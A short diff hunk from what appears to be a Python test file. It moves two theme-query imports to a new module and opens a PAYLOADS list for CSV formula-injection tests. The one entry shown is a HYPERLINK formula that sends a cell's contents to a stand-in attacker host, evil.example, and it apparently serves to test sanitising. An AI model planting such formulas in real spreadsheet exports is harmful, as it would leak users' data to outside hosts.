@@ -23,8 +23,8 @@ from analysis.safe_tables import FORMULA_PREFIXES, frame_csv_bytes, md_text, saf
 from klantstem_cli import app
 from workspace.db import Workspace
 from workspace.imports import import_bytes
-from workspace.queries import theme_quotes, theme_table
 from workspace.summary import render_summary, weekly_summary
+from workspace.theme_queries import theme_quotes, theme_table
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")',
